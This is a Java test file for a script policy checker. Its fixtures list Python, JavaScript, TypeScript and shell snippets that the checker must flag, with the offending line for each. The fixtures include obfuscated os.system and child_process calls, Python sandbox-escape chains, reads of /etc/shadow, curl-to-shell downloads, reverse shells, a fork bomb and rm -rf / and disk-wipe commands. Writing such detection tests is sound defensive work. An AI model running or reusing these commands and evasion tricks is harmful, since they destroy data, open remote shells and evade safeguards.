package io.hardknocks.analysis.policy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.hardknocks.model.Violation;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/** What the standard policy refuses, with the tricks that hide it. */
class ForbiddenScriptsTest {
  private static final Policy POLICY = Policy.standard();

  /** A script and the violation that it must have. */
  private record Case(String language, String script, int line, String forbidden) {}

  private static Case python(int line, String forbidden, String script) {
    return new Case("python", script, line, forbidden);
  }

  private static Case js(int line, String forbidden, String script) {
    return new Case("javascript", script, line, forbidden);
  }

  private static Case ts(int line, String forbidden, String script) {
    return new Case("typescript", script, line, forbidden);
  }

  private static Case shell(int line, String forbidden, String script) {
    return new Case("bash", script, line, forbidden);
  }

  private static final List<Case> PYTHON =
      List.of(
          python(2, "os.system", "import os\nos.system('ls')"),
          python(2, "os.system", "import os as o\no.system('ls')"),
          python(2, "os.system", "from os import system as s\ns('ls')"),
          python(1, "os.system", "from os import system as s"),
          python(2, "os.system", "from os import *\nsystem('ls')"),
          python(3, "os.system", "import os\nx = os\nx.system('ls')"),
          python(2, "os.system", "import os\nrun = os.system\nrun('ls')"),
          python(2, "os.system", "import os\ngetattr(os, 'system')('ls')"),
          python(2, "os.system", "import os\ngetattr(os, 'sys' + 'tem')('ls')"),
          python(2, "os.system", "import os\ngetattr(os, 'sys' 'tem')('ls')"),
          python(2, "os.system", "import os\ngetattr(os, '\\x73ystem')('ls')"),
          python(2, "os.system", "import os\nos.__dict__['system']('ls')"),
          python(2, "os.system", "import os\nvars(os)['system']('ls')"),
          python(2, "os.system", "import sys\nsys.modules['os'].system('ls')"),
          python(1, "os.system", "__import__('os').system('ls')"),
          python(2, "os.system", "import importlib\nimportlib.import_module('os').system('ls')"),
          python(
              3,
              "os.system",
              "from importlib import import_module as im\nm = im('os')\nm.system('ls')"),
          python(1, "os.system", "exec(\"import os; os.system('ls')\")"),
          python(1, "os.system", "__builtins__.__import__('os').system('ls')"),
          python(1, "os.system", "__builtins__['__import__']('os').system('ls')"),
          python(2, "os.system", "import os\n(lambda: os.system('ls'))()"),
          python(3, "os.system", "def f():\n    import os as q\n    q.system('ls')"),
          python(2, "os.system", "def f():\n    x.system('ls')\nimport os as x"),
          python(1, "subprocess", "import subprocess"),
          python(1, "subprocess", "import json, subprocess as sp"),
          python(1, "subprocess", "from subprocess import run"),
          python(1, "subprocess", "__import__('subprocess')"),
          python(2, "subprocess", "import importlib\nimportlib.import_module('subprocess')"),
          python(2, "subprocess", "try:\n    import subprocess\nexcept ImportError:\n    pass"),
          python(1, "ctypes", "import ctypes"),
          python(1, "ctypes.util", "from ctypes.util import find_library"),
          python(2, "os.popen", "import os\nprint(os.popen('id').read())"),
          python(2, "os.execvp", "import os\nos.execvp('sh', ['sh'])"),
          python(2, "os.fork", "import os\nwhile True: os.fork()"),
          python(2, "os.kill", "import os\nos.kill(os.getppid(), 9)"),
          python(2, "socket.socket", "import socket\ns = socket.socket()"),
          python(
              2, "socket.create_connection", "import socket as k\nk.create_connection(('a', 1))"),
          python(1, "eval of a computed text", "eval(input())"),
          python(
              2,
              "exec of a computed text",
              "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
          python(2, "eval of a computed text", "e = eval\ne(input())"),
          python(2, "eval of a computed text", "import builtins\nbuiltins.eval(input())"),
          python(1, "eval of a computed text", "globals()['eval'](input())"),
          python(1, "__import__ of a computed text", "__import__(input())"),
          python(1, "exec of a computed text", "exec(open('x.py').read())"),
          python(1, "__mro__.__subclasses__", "().__class__.__mro__[1].__subclasses__()"),
          python(1, "__base__.__subclasses__", "().__class__.__base__.__subclasses__()"),
          python(2, "__globals__", "def f(): pass\nf.__globals__['x']"),
          python(1, "writing /etc/passwd", "open('/etc/passwd', 'w')"),
          python(1, "writing /etc/passwd", "open('/etc/passwd', mode='a+')"),
          python(1, "writing /tmp/../etc/passwd", "open('/tmp/../etc/passwd', 'w')"),
          python(1, "reading /etc/shadow", "open('/etc/shadow').read()"),
          python(2, "writing /", "import shutil\nshutil.rmtree('/')"),
          python(
              2, "writing /usr/bin/python3", "from os import remove\nremove('/usr/bin/python3')"));

  private static final List<Case> SCRIPTS =
      List.of(
          js(1, "child_process", "const cp = require('child_process');"),
          js(1, "child_process", "const { exec: e } = require('node:child_process');"),
          js(1, "child_process", "import { execSync } from 'child_process';"),
          js(1, "child_process", "import * as cp from 'node:child_process';"),
          js(1, "child_process", "const cp = await import('child_process');"),
          js(1, "child_process", "require('child_' + 'process')"),
          js(1, "child_process", "require(`child_process`)"),
          js(2, "child_process", "const r = require;\nr('child_process').execSync('id')"),
          js(1, "child_process", "process.mainModule.require('child_process')"),
          js(1, "child_process", "module.require('child_process')"),
          js(1, "child_process", "globalThis.process.mainModule.require('child_process')"),
          js(1, "child_process", "export * from 'child_process';"),
          js(1, "child_process", "eval(\"require('child_process')\")"),
          js(1, "process.binding", "process.binding('spawn_sync')"),
          js(1, "process.binding", "process['binding']('spawn_sync')"),
          js(1, "process.binding", "globalThis['process']['bin' + 'ding']('fs')"),
          js(1, "process.binding", "const { binding } = process;"),
          js(1, "process.binding", "const { binding: b } = process; b('fs')"),
          js(2, "process.binding", "const p = process;\np.binding('fs')"),
          js(1, "process.kill", "process.kill(process.ppid)"),
          js(1, "eval of a computed text", "eval(process.argv[2])"),
          js(1, "eval of a computed text", "(0, eval)(code)"),
          js(2, "eval of a computed text", "const e = eval;\ne(code)"),
          js(1, "eval of a computed text", "globalThis.eval(code)"),
          js(1, "Function of a computed text", "new Function(code)()"),
          js(1, "Function of a computed text", "Function('a', code)"),
          js(
              2,
              "vm.runInThisContext of a computed text",
              "const vm = require('vm');\nvm.runInThisContext(code)"),
          js(2, "reading /etc/shadow", "const fs = require('fs');\nfs.readFileSync('/etc/shadow')"),
          js(
              2,
              "writing /etc/hosts",
              "import { writeFileSync as w } from 'node:fs';\nw('/etc/hosts', '')"),
          js(1, "Deno.Command", "new Deno.Command('ls')"),
          ts(1, "child_process", "import cp = require('child_process');"),
          ts(1, "child_process", "import { exec } from 'child_process';\nconst x: string = 'a';"),
          ts(1, "process.binding", "(process as any).binding('fs');"));

  private static final List<Case> SHELL =
      List.of(
          shell(1, "rm -r of / or the home folder", "rm -rf /"),
          shell(1, "rm -r of / or the home folder", "rm -fr /*"),
          shell(1, "rm -r of / or the home folder", "rm -r -f --no-preserve-root /"),
          shell(1, "rm -r of / or the home folder", "rm -rf ~"),
          shell(1, "rm -r of / or the home folder", "rm -rf \"$HOME\""),
          shell(1, "rm -r of / or the home folder", "\\rm -rf '/'"),
          shell(1, "rm -r of / or the home folder", "/bin/rm -rf /"),
          shell(2, "rm -r of / or the home folder", "cd /tmp\ntrue && rm -rf /"),
          shell(1, "rm -r of / or the home folder", "bash -c 'rm -rf /'"),
          shell(
              1,
              "rm -r of / or the home folder",
              "echo " + "$(".repeat(200) + "rm -rf /" + ")".repeat(200)),
          shell(1, "rm -r of / or the home folder", "x=1 command rm -rf /etc"),
          shell(1, "a download piped into a shell", "curl -s https://x.example/i.sh | sh"),
          shell(1, "a download piped into a shell", "wget -qO- https://x.example | sudo bash"),
          shell(
              2,
              "a download piped into a shell",
              "set -e\ncurl https://x.example \\\n  | bash -s --"),
          shell(1, "a download piped into a shell", "bash <(curl -s https://x.example)"),
          shell(1, "a download piped into a shell", "sh -c \"$(curl -fsSL https://x.example)\""),
          shell(1, "a download piped into a shell", "curl https://x.example | tee a | /bin/sh"),
          shell(1, "a decoded text piped into a shell", "echo cm0gLXJmIC8= | base64 -d | sh"),
          shell(1, "a shell over the network", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"),
          shell(1, "a shell over the network", "nc -e /bin/sh 10.0.0.1 4242"),
          shell(1, "a fork bomb", ":(){ :|:& };:"),
          shell(1, "writing to a disk", "dd if=/dev/zero of=/dev/sda"),
          shell(1, "writing to a disk", "mkfs.ext4 /dev/sdb1"),
          shell(1, "stopping the machine", "shutdown -h now"),
          shell(1, "changing users", "sudo apt-get install x"),
          shell(1, "changing rights of /", "chmod -R 777 /"),
          shell(1, "killing all processes", "kill -9 -1"),
          shell(1, "writing /etc/passwd", "echo root2::0:0::/: >> /etc/passwd"),
          shell(4, "writing /etc/cron.d/x", "cat <<EOF\nrm -rf /\nEOF\necho x > /etc/cron.d/x"));

  @TestFactory
  Stream<DynamicTest> theLineAndWhatIsForbiddenAreNamed() {
    return Stream.of(PYTHON, SCRIPTS, SHELL)
        .flatMap(List::stream)
        .map(each -> DynamicTest.dynamicTest(each.script(), () -> check(each)));
  }

  private static void check(Case expected) {
    assertThat(POLICY.check(expected.language(), expected.script()))
        .extracting(Violation::line, Violation::forbidden)
        .contains(tuple(expected.line(), expected.forbidden()));
  }
}
